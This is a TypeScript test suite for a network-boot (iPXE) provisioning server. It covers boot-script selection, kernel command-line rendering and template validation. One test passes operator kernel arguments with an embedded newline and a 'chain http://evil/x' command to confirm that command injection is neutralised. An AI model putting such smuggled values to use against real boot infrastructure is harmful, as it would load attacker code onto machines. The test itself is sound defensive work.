import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, rmSync, writeFileSync, unlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  loadBootTemplates, renderBootScript, chooseBootScript, BootTemplateError, DEFAULT_TEMPLATES_DIR, type BootTarget,
} from '../../server/boot/ipxe.ts';
import { kernelCmdline } from '../../server/boot/cmdline.ts';
import type { Machine } from '../../server/store/machines.ts';
import type { Workflow } from '../../server/store/workflows.ts';
import type { Image } from '../../server/store/images.ts';
import type { WorkflowState } from '../../server/workflows/states.ts';

const MAC = '52:54:00:ab:cd:ef';
const machine = (over: Partial<Machine> = {}): Machine => ({
  id: 1, mac: MAC, hostname: 'web-1', ipv4: null, arch: 'auto', efiBinary: 'ipxe.efi', allowPxe: true, labels: {},
  createdAt: '', updatedAt: '', ...over,
});
const workflow = (state: WorkflowState, over: Partial<Workflow> = {}): Workflow => ({
  id: 'wf-1234', machineId: 1, machineMac: MAC, imageId: 'img1', entrypoint: null, args: null, env: {},
  kernelArgs: 'ironboot.modules=virtio_net quiet', target: '/dev/vda', after: 'wait', mode: 'ephemeral', token: 'tok_ABC-123', state,
  reason: null, exitCode: null, timeoutSeconds: 600, createdAt: '', updatedAt: '', startedAt: null, finishedAt: null, ...over,
});
const image = { id: 'img1', name: 'busybox-httpd' } as Image;
const templates = loadBootTemplates();
const opts = { publicUrl: 'http://10.77.0.1:8080' };

function withTemplateDir(mutate: (dir: string) => void): () => unknown {
  const dir = mkdtempSync(join(tmpdir(), 'ib-boot-tpl-'));
  cpSync(DEFAULT_TEMPLATES_DIR, dir, { recursive: true });
  mutate(dir);
  return () => { try { return loadBootTemplates(dir); } finally { rmSync(dir, { recursive: true, force: true }); } };
}

test('chooseBootScript: unknown, local boot for none/finished/PXE off, provision for active workflows', () => {
  assert.equal(chooseBootScript({ mac: MAC }).kind, 'unknown');
  assert.equal(chooseBootScript({ mac: MAC, machine: machine() }).kind, 'local-boot');
  for (const s of ['succeeded', 'failed', 'timed-out', 'cancelled'] as const) {
    const d = chooseBootScript({ mac: MAC, machine: machine(), workflow: workflow(s) });
    assert.equal(d.kind, 'local-boot', s);
    assert.match(d.reason, new RegExp(s));
  }
  for (const s of ['pending', 'booting', 'agent-online', 'streaming', 'running'] as const) {
    assert.equal(chooseBootScript({ mac: MAC, machine: machine(), workflow: workflow(s) }).kind, 'provision', s);
  }
  assert.equal(chooseBootScript({ mac: MAC, machine: machine({ allowPxe: false }), workflow: workflow('pending') }).kind, 'local-boot');
});

test('provision script: kernel/initramfs URLs, full cmdline, bounded retries, undionly recognised in the script', () => {
  const t: BootTarget = { mac: MAC, machine: machine(), workflow: workflow('pending'), image };
  const out = renderBootScript(templates, t, opts, { bootToken: 'tok_ABC-123' });
  assert.equal(out.kind, 'provision');
  assert.equal(out.workflowId, 'wf-1234');
  const s = out.script;
  assert.ok(s.startsWith('#!ipxe\n'));
  const kernel = s.split('\n').find((l) => l.startsWith('kernel '));
  assert.equal(kernel,
    'kernel http://10.77.0.1:8080/artifacts/vmlinuz initrd=initramfs console=tty0 console=ttyS0,115200 '
    + 'ironboot.server=http://10.77.0.1:8080 ironboot.workflow=wf-1234 ironboot.token=tok_ABC-123 ironboot.mac=52:54:00:ab:cd:ef '
    + 'panic=10 ironboot.modules=virtio_net quiet || goto failed');
  assert.match(s, /^initrd http:\/\/10\.77\.0\.1:8080\/artifacts\/initramfs \|\| goto failed$/m);
  assert.match(s, /^boot \|\| goto failed$/m);
  // retries: a counter compared with the bound, then (BIOS) undionly, then reboot
  assert.match(s, /^iseq \$\{ironboot-attempt\} 3 && goto exhausted \|\|$/m);
  assert.match(s, /^iseq \$\{netX\/chip\} undionly && goto give_up \|\|$/m);
  assert.match(s, /^chain tftp:\/\/\$\{next-server\}\/undionly\.kpxe/m);
  assert.match(s, /^reboot$/m);
  assert.doesNotMatch(s, /&amp;|&#x2F;|\{\{/, 'no HTML escaping, no unrendered tags');
  const custom = renderBootScript(templates, t, { ...opts, maxAttempts: 5, retryDelaySeconds: 2 }, { bootToken: 't' }).script;
  assert.match(custom, /^iseq \$\{ironboot-attempt\} 5 && goto exhausted/m);
  assert.match(custom, /^sleep 2$/m);
});

test('operator kernel arguments cannot inject iPXE commands', () => {
  const t: BootTarget = { mac: MAC, machine: machine(), workflow: workflow('pending', { kernelArgs: 'quiet\nchain http://evil/x\r\n' }), image };
  const s = renderBootScript(templates, t, opts, { bootToken: 't' }).script;
  assert.doesNotMatch(s, /^chain http:\/\/evil/m);
  assert.match(s, /panic=10 quiet chain http:\/\/evil\/x \|\| goto failed$/m);
});

test('a provisioning script without a boot token (refused) carries no token and says why; agentUrl sets ironboot.server=', () => {
  const t: BootTarget = { mac: MAC, machine: machine(), workflow: workflow('pending'), image };
  const refused = renderBootScript(templates, t, opts, { refused: '10.0.0.9 is not the address of ${mac}\nchain x' });
  assert.equal(refused.kind, 'provision');
  assert.ok(refused.script.startsWith('#!ipxe\n'));
  assert.doesNotMatch(refused.script, /kernel|ironboot\.token|^chain/m);
  assert.match(refused.script, /^echo ironboot: 10\.0\.0\.9 is not the address of \{mac\} chain x$/m, 'one line, no ${…} expansion');
  assert.match(refused.script, /^exit 1$/m);
  const tls = renderBootScript(templates, t, { ...opts, agentUrl: 'https://10.77.0.1:8443' }, { bootToken: 'tok' }).script;
  assert.match(tls, /^kernel http:\/\/10\.77\.0\.1:8080\/artifacts\/vmlinuz .* ironboot\.server=https:\/\/10\.77\.0\.1:8443 ironboot\.workflow=wf-1234 ironboot\.token=tok /m);
});

test('kernelCmdline puts the serial console last (it becomes /dev/console) and operator args after panic=', () => {
  const c = kernelCmdline({ serverUrl: 'http://s', workflowId: 'w', token: 't', mac: MAC, kernelArgs: ' panic=-1 ', initrdName: 'initramfs', panicSeconds: 10, consoles: ['tty0', 'ttyS0,115200'] });
  assert.equal(c, 'initrd=initramfs console=tty0 console=ttyS0,115200 ironboot.server=http://s ironboot.workflow=w ironboot.token=t ironboot.mac=52:54:00:ab:cd:ef panic=10 panic=-1');
});

test('local boot script: sanboot the first disk on BIOS, exit on UEFI, with the reason', () => {
  const s = renderBootScript(templates, { mac: MAC, machine: machine(), workflow: workflow('succeeded') }, opts).script;
  assert.match(s, /^echo ironboot: 52:54:00:ab:cd:ef: workflow wf-1234 is succeeded, booting from the local disk$/m);
  assert.match(s, /^iseq \$\{platform\} efi && goto efi \|\|$/m);
  assert.match(s, /^sanboot --no-describe --drive 0x80 \|\| goto bios_failed$/m);
  assert.match(s, /^:efi\n(#.*\n)*exit 1$/m);
  assert.doesNotMatch(s, /kernel|ironboot\.token/);
});

test('unknown MAC: a script that says so, pauses and exits (no shell, no kernel)', () => {
  const out = renderBootScript(templates, { mac: MAC }, { ...opts, pauseSeconds: 7 });
  assert.equal(out.kind, 'unknown');
  assert.ok(out.script.startsWith('#!ipxe\n'));
  assert.match(out.script, /not registered with http:\/\/10\.77\.0\.1:8080/);
  assert.match(out.script, /^sleep 7$/m);
  assert.match(out.script, /^exit 1$/m);
  assert.doesNotMatch(out.script, /^(kernel|shell)/m);
});

test('loadBootTemplates: a template that does not parse is refused, naming the file and the problem', () => {
  const load = withTemplateDir((d) => writeFileSync(join(d, 'provision.ipxe'), '#!ipxe\n{{#cmdline}}\nkernel x {{cmdline}}\n'));
  assert.throws(load, (e: unknown) => e instanceof BootTemplateError && /provision\.ipxe/.test(e.message) && /Unclosed section "cmdline"/.test(e.message));
});

test('loadBootTemplates: an unknown variable (a typo) is refused with its line', () => {
  const load = withTemplateDir((d) => writeFileSync(join(d, 'local-boot.ipxe'), '#!ipxe\necho {{mac}}\necho {{resaon}}\nexit\n'));
  assert.throws(load, (e: unknown) => e instanceof BootTemplateError && /local-boot\.ipxe: line 3: unknown variable \{\{resaon\}\}/.test(e.message));
});

test('loadBootTemplates: a script without #!ipxe, a provision script without the token, a missing file', () => {
  assert.throws(withTemplateDir((d) => writeFileSync(join(d, 'unknown.ipxe'), 'echo hi\nexit\n')), /unknown\.ipxe: does not start with "#!ipxe"/);
  assert.throws(withTemplateDir((d) => writeFileSync(join(d, 'provision.ipxe'), '#!ipxe\nkernel {{kernelUrl}}\nboot\n')), /provision\.ipxe: must use \{\{cmdline\}\} or \{\{token\}\}/);
  assert.throws(withTemplateDir((d) => unlinkSync(join(d, 'unknown.ipxe'))), /unknown\.ipxe: cannot read it: ENOENT/);
  assert.throws(withTemplateDir((d) => writeFileSync(join(d, 'unknown.ipxe'), '#!ipxe\n{{> other}}\n')), /partials/);
});

test('loadBootTemplates: an operator edit that stays valid is used', () => {
  const load = withTemplateDir((d) => writeFileSync(join(d, 'unknown.ipxe'), '#!ipxe\necho go away {{macHyphen}}\nreboot\n'));
  const t = load() as ReturnType<typeof loadBootTemplates>;
  assert.equal(renderBootScript(t, { mac: MAC }, opts).script, '#!ipxe\necho go away 52-54-00-ab-cd-ef\nreboot\n');
});
